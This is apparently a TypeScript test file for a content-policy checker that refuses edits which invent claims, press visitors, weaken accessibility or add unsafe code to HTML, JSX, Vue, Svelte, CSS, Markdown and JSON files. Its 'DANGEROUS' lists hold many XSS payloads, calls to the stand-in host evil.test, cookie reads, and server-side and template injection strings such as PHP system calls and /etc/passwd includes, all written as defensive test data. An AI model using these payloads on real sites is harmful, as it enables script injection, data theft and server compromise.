import t from 'tap'
import { html } from '../../test/support/sites.js'
import { policyViolation } from '../content-policy.js'

/** Why an edit of a page is refused. `known` is what the file and others state. */
const told = (find: string, replace: string, known = find, path = 'a.html', around = find): string => {
  const text = path === 'a.html' ? html('Page', around) : around
  const violation = policyViolation([{ find, replace, variant: 'b' }], { path, text }, known)
  return violation?.reason ?? 'none'
}

t.test('figures and claims stand in what is known', async (t) => {
  t.equal(told('<p>For teams</p>', '<p>For 900 teams</p>'), 'invented')
  t.equal(
    told('<p>For teams</p>', '<p>For 90 teams</p>', 'since 1990'),
    'invented',
    'a part of another figure',
  )
  t.equal(told('<p>For teams</p>', '<p>For 900 teams</p>', '900 teams use it'), 'none')
  t.equal(told("'Start'", "'Start for free'"), 'invented')
  t.equal(told("'Start'", "'Start for free'", 'It is free'), 'none')
  t.equal(told('<a>Los</a>', '<a>Kostenlos los</a>'), 'invented')
  t.equal(told('<p>Simple</p>', '<p>Trusted by everyone</p>'), 'invented')
  t.equal(told('<a class="p-4">Go</a>', '<a class="p-8">Go</a>'), 'none', 'what is not read is no claim')
})

t.test('texts that press or shame a visitor are refused, whatever the code states', async (t) => {
  for (const words of [
    'Hurry, join now',
    'Only 3 left',
    "No thanks, I don't like saving",
    'Nur noch 3 Plätze',
    'Dernière chance',
  ])
    t.equal(told('<p>Join</p>', `<p>${words}</p>`, words), 'dark_pattern', words)
})

const PAGE = `<nav><a class="btn" href="/join?a=1&amp;b=2">Join</a></nav>
<form action="/join" method="post"><input type="email" name="email"><input type="password" name="password">
<input type="hidden" name="price" value="90"><button onclick="track()">Send</button></form>
<input type="checkbox"><p>Come in</p><img src="/cup.png" alt="A cup"><iframe src="https://maps.test/"></iframe>
<script>function track() { fetch('/t') }</script>`

/** Edits of "<p>Come in</p>", or of what is named, which somebody with bad intentions could write. */
const DANGEROUS: readonly (string | [find: string, replace: string])[] = [
  '<p>Come in<script>go()</script></p>',
  '<p>Come in</p><SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<svg/onload=alert(1)>',
  '<p onclick="go()">Come in</p>',
  '<p oNcLiCk=go()>Come in</p>',
  '<p onclick="track()">Come in</p>'.replace('track', 'window.track'),
  '<a href="javascript:go()">Come in</a>',
  '<a href="jav&#x61;script:go()">Come in</a>',
  '<a href=" java\nscript:go()">Come in</a>',
  '<a href="data:text/html,x">Come in</a>',
  '<a href=//evil.test/>Come in</a>',
  '<a href="\\\\evil.test">Come in</a>',
  '<a href="/\\evil.test">Come in</a>',
  '<a href="https:evil.test">Come in</a>',
  '<a href="/join" ping="//evil.test">Come in</a>',
  '<img src=//evil.test/i.png alt="A cup">',
  '<img src="/cup.png" srcset="//evil.test/i.png 1x" alt="A cup">',
  '<p style="background:url(//evil.test)">Come in</p>',
  '<p>Come in</p><style>@import "//evil.test"</style>',
  '<p>Come in</p><link rel=stylesheet href="/join">',
  '<p>Come in</p><meta http-equiv=refresh content="url=//evil.test">',
  '<p>Come in</p><base href="//evil.test">',
  '<p>Come in</p><iframe srcdoc="<script>go()</script>"></iframe>',
  '<p>Come in</p><object data="/join"></object>',
  '<p>Come in</p><form action="//evil.test"><button>Go</button></form>',
  '<p>Come in</p><form action="/join"><button>Go</button></form>',
  '<p>Come in</p><input type="password" name="password">',
  '<button formaction="//evil.test">Go</button>',
  '<a id="location" href="/join">Come in</a>',
  '<p data-hx-get="//evil.test">Come in</p>',
  ['90', '1'],
  ['/cup.png', '//evil.test/cup.png'],
  ['/cup.png', '/cup.png" onerror="go()'],
  ['track()', 'track();go()'],
  ['https://maps.test/', 'https://maps.test.evil.test/'],
  '<p>Come in</p><button formaction="https://maps.test/">Go</button>',
  // What servers and template engines run.
  '<p>Come in</p><!--#exec cmd="id" -->',
  '<p>Come in</p><?php system("id") ?>',
  '<p><%= process.env %></p>',
  '<p>{{ constructor.constructor("go()")() }}</p>',
  '<p>{% include "/etc/passwd" %}</p>',
  '<p>#{7*7}</p>',
  '<p>[[x]]</p>',
  '<p class="bg-[url(//evil.test)]">Come in</p>',
  '<p>\u202eCome in</p>',
  '<p>Come\u200b in</p>',
  // What the page protects its visitors with.
  ['<meta charset="utf-8">', ''],
  ["<script>function track() { fetch('/t') }</script>", ''],
  ['type="password"', 'type="text"'],
  ['name="password"', 'name="email"'],
  ['<input type="checkbox">', '<input type="checkbox" checked>'],
]

t.test(
  'an edit of a page brings in no element, attribute or address that the page does not have',
  async (t) => {
    for (const one of DANGEROUS) {
      const [find, replace] = typeof one === 'string' ? ['<p>Come in</p>', one] : one
      t.equal(told(find, replace, PAGE, 'a.html', PAGE), 'unsafe', replace)
    }
    for (const replace of [
      '<p>Come on in</p>',
      '<p class="lead"><strong>Come in</strong></p>',
      '<p>Come in</p><a class="btn" href="/join?a=1&b=2">Join</a>',
      '<p>Come in</p><a href="/">Home</a>',
      '<details><summary>Come in</summary><p>Come in</p></details>',
    ])
      t.equal(told('<p>Come in</p>', replace, PAGE, 'a.html', PAGE), 'none', replace)
    t.equal(told('A cup', 'A cup of tea', PAGE, 'a.html', PAGE), 'none')
  },
)

const JSX = `import { useState } from 'react'
import { save } from './api'
export function Join({ text, user }) {
  const [email, setEmail] = useState('')
  const [again, setAgain] = useState('')
  useEffect(() => { setTimeout(() => setEmail('x'), 2000) }, [])
  const load = () => fetch('/api/user')
  return <form onSubmit={() => save({ email })}>
    <input type="email" value={email} onChange={(e) => setEmail(e.target.value)} />
    <input value={again} onChange={(e) => setAgain(e.target.value)} />
    <a href="/join" className="md:flex">Join</a><p>Come in</p>
  </form>
}
`
const INPUT = 'onChange={(e) => setEmail(e.target.value)}'
const DANGEROUS_CODE: readonly [find: string, replace: string][] = [
  ['<p>Come in</p>', "<p>{fetch('//evil.test')}</p>"],
  ['<p>Come in</p>', "<p>{(fetch)('//evil.test')}</p>"],
  ['<p>Come in</p>', "<p>{(0, fetch)('/x')}</p>"],
  ['<p>Come in</p>', "<p>{fetch('/' + '/evil.test')}</p>"],
  ['<p>Come in</p>', `<p>{fetch(\`/api/user?\${email}\`)}</p>`],
  ['<p>Come in</p>', "<p>{[].constructor.constructor('go()')()}</p>"],
  ['<p>Come in</p>', "<p>{text['constr' + 'uctor']}</p>"],
  ['<p>Come in</p>', '<p>{document.cookie}</p>'],
  ['<p>Come in</p>', '<p dangerouslySetInnerHTML={{ __html: text }} />'],
  ['<p>Come in</p>', '<p style={{ display: text }}>Come in</p>'],
  ['<p>Come in</p>', '<p {...user}>Come in</p>'],
  ['<p>Come in</p>', '<a href={text}>Come in</a>'],
  ['<p>Come in</p>', '<p onClick={() => save({ email })}>Come in</p>'],
  ['<p>Come in</p>', '<IFRAME src="/join" />'],
  ['<p>Come in</p>', '<input type="password" onChange={(e) => setEmail(e.target.value)} />'],
  ['"/join"', '"javascript:go()"'],
  ["'x'", "'<img src=x onerror=go()>'"],
  [INPUT, "onChange={() => { self.location = '/join' }}"],
  [INPUT, "onChange={(e) => { e.target.value = 'x' }}"],
  [INPUT, 'onChange={(e) => save(eval(e.target.value))}'],
  [INPUT, 'onChange={() => { while (true) {} }}'],
  [INPUT, 'onChange={() => { throw email }}'],
  ["'./api'", "'other-package'"],
  ["import { save } from './api'", "import 'other'\nimport { save } from './api'"],
  ["import { save } from './api'", "export * from './secrets'\nimport { save } from './api'"],
  ["import { useState } from 'react'", "'use server'\nimport { useState } from 'react'"],
  ["import { save } from './api'", "/** @jsxImportSource evil */\nimport { save } from './api'"],
  ["import { save } from './api'", "//# sourceMappingURL=x\nimport { save } from './api'"],
]

t.test('code uses only what its file names, calls and sets', async (t) => {
  for (const [find, replace] of DANGEROUS_CODE)
    t.equal(told(find, replace, JSX, 'a.jsx', JSX), 'unsafe', replace)
  for (const [find, replace] of [
    ['<p>Come in</p>', '<><p>Come in</p><a href="/join" className="md:grid">Join</a></>'],
    ['2000', '30000'],
    [INPUT, 'onChange={(e) => { setEmail(e.target.value); setAgain(e.target.value) }}'],
    ["'x'", "'y'"],
  ] as const)
    t.equal(told(find, replace, JSX, 'a.jsx', JSX), 'none', replace)
})

t.test('the same of Vue, Svelte, and files of texts', async (t) => {
  const vue = `<script setup>\nimport { ref } from 'vue'\nconst email = ref('')\nfunction join() { fetch('/api') }\n</script>\n
<template><main><input v-model="email"><button @click="join()">Join</button><p>Come in</p></main></template>\n`
  const svelte = `<script>\n  let email = $state('')\n  function join() { fetch('/api') }\n</script>\n
<main><input bind:value={email}><button onclick={() => join()}>Join</button><p>Come in</p></main>\n`
  for (const replace of [
    '<p v-html="email"></p>',
    '<p @click="join()">Come in</p>',
    '<p>{{ window.name }}</p>',
    '<component is="script" />',
    '<IFRAME src="/x" />',
    '<Iframe src="/x" />',
    '<a :href="email">x</a>',
  ])
    t.equal(told('<p>Come in</p>', replace, vue, 'a.vue', vue), 'unsafe', replace)
  t.equal(told('<p>Come in</p>', '<p>{{ email }}</p>', vue, 'a.vue', vue), 'none')
  for (const replace of [
    '<p>{@html email}</p>',
    '<svelte:element this="script" />',
    '<p>{eval(email)}</p>',
    '<p use:join>Come in</p>',
    '<p style:color={email}>x</p>',
  ])
    t.equal(told('<p>Come in</p>', replace, svelte, 'a.svelte', svelte), 'unsafe', replace)
  t.equal(told('<p>Come in</p>', '<p>{email}</p>', svelte, 'a.svelte', svelte), 'none')
  for (const [find, replace] of [
    ['<script setup>', '<script setup src="./other.js">'],
    ['<template>', '<template lang="pug">'],
    ['</template>', '</template>\n<style>p { margin: 0 }</style>'],
    ['</template>', '</template>\n<i18n>x</i18n>'],
    ["from 'vue'", "from 'other'"],
    ["ref('')", "ref('')\nwhile (email) {}"],
  ] as const)
    t.equal(told(find, replace, vue, 'a.vue', vue), 'unsafe', replace)
  for (const [find, replace] of [
    ['<script>', '<script module>'],
    ['<script>', '<script src="./other.js">'],
    ['<main>', '<svelte:options accessors />\n<main>'],
  ] as const)
    t.equal(told(find, replace, svelte, 'a.svelte', svelte), 'unsafe', replace)
  for (const replace of ['background:url(//evil.test)', 'behavior:url(/x.htc)', 'opacity: 0'])
    t.equal(told('color: red', replace, '0', 'a.css', 'p { color: red }'), 'unsafe', replace)
  for (const replace of ['[x](//evil.test)', '[x](data:text/html,x)', '{{ site }}', '[x](j\\avascript:go())'])
    t.equal(told('Come in', replace, '', 'a.md', 'Come in'), 'unsafe', replace)
  const texts = '{ "join": "Join" }'
  for (const replace of [
    '"\\u003cimg src=x onerror=go()\\u003e"',
    '"\\/\\/evil.test"',
    '"Join", "__proto__": { "x": "y" }',
    '"mailto:a@evil.test"',
  ])
    t.equal(told('"Join"', replace, '003', 'en.json', texts), 'unsafe', replace)
  t.equal(told('"Join"', '"Join", "now": "<img src=x onerror=go()>"', texts, 'en.json', texts), 'unsafe')
  t.equal(told('"Join"', '"Join", "now": "https://evil.test"', texts, 'en.json', texts), 'unsafe')
  t.equal(told('"Join"', '"Join", "now": "Join us"', texts, 'en.json', texts), 'none')
})

t.test('nothing is taken from people who hear the page or use the keyboard', async (t) => {
  t.equal(told('<img alt="A cup"><p>Tea</p>', '<img alt=""><p>Tea</p>'), 'unsafe')
  t.equal(told('<label for="a">Name</label><input id="a">', '<input id="a" placeholder="Name">'), 'unsafe')
  t.equal(told('<button aria-label="Close">x</button>', '<button>x</button>'), 'unsafe')
  t.equal(told('<a href="/a">A</a>', '<a href="/a" tabindex="3">A</a>'), 'unsafe')
  t.equal(told('<a href="/a">A</a>', '<a href="/a" style="outline:none">A</a>'), 'unsafe')
})
